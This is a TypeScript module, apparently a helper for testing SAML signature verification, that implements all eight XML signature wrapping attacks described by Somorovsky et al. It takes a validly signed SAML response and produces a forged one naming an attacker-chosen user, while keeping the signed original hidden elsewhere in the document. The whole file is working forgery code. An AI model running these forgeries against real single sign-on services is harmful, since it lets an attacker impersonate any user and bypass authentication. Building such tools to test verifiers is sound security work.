import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/**
 * The eight ways of XML signature wrapping that are told in "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al., 2012): what
 * was signed is kept somewhere, and what is read is somebody else's.
 */
export const WRAPPINGS = [1, 2, 3, 4, 5, 6, 7, 8] as const;

const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const DS = 'http://www.w3.org/2000/09/xmldsig#';

/** Turns a genuine answer into one that claims to be of `evil`, by wrapping of a number; 1 and 2 need a signed Response, the others a signed Assertion. */
export function wrap(xml: string, number: (typeof WRAPPINGS)[number], evil: string): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  const assertion = one(response, 'Assertion');
  if (number <= 2) {
    const signature = childOf(response, 'Signature');
    const original = response.cloneNode(true) as Element;
    original.removeChild(childOf(original, 'Signature'));
    response.setAttribute('ID', '_evil');
    setName(assertion, evil);
    if (number === 1) signature.appendChild(original);
    else response.insertBefore(original, signature);
    return serialize(document);
  }
  const original = assertion.cloneNode(true) as Element;
  const forged = assertion.cloneNode(true) as Element;
  forged.setAttribute('ID', '_evil');
  setName(forged, evil);
  const unsigned = (element: Element) => {
    element.removeChild(childOf(element, 'Signature'));
    return element;
  };
  switch (number) {
    case 3:
      response.insertBefore(unsigned(forged), assertion);
      break;
    case 4:
      response.replaceChild(unsigned(forged), assertion);
      forged.appendChild(original);
      break;
    case 5:
      response.replaceChild(forged, assertion);
      response.appendChild(unsigned(original));
      break;
    case 6:
      response.replaceChild(forged, assertion);
      childOf(forged, 'Signature').appendChild(unsigned(original));
      break;
    case 7: {
      const extensions = document.createElementNS(SAMLP, 'samlp:Extensions');
      response.insertBefore(extensions, assertion);
      // The verifier finds the signed one by its ID; a reader that takes the first finds the other.
      extensions.appendChild(unsigned(forged));
      break;
    }
    case 8: {
      const object = document.createElementNS(DS, 'Object');
      response.replaceChild(forged, assertion);
      childOf(forged, 'Signature').appendChild(object);
      object.appendChild(unsigned(original));
      break;
    }
  }
  return serialize(document);
}

/** Changes an answer by the document. */
export function edit(xml: string, change: (response: Element, document: Document) => void): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  change(document.documentElement, document);
  return serialize(document);
}

/** The first element of a local name. */
export function one(root: Element, localName: string): Element {
  const [found] = Array.from(root.getElementsByTagNameNS('*', localName));
  if (found === undefined) throw new Error(`there is no ${localName}`);
  return found;
}

function childOf(parent: Element, localName: string): Element {
  for (let node = parent.firstChild; node !== null; node = node.nextSibling) {
    if (node.nodeType === 1 && (node as Element).localName === localName) return node as Element;
  }
  throw new Error(`${parent.localName} has no ${localName}`);
}

function setName(assertion: Element, name: string): void {
  one(assertion, 'NameID').textContent = name;
}

function serialize(document: Document): string {
  return new XMLSerializer().serializeToString(document);
}
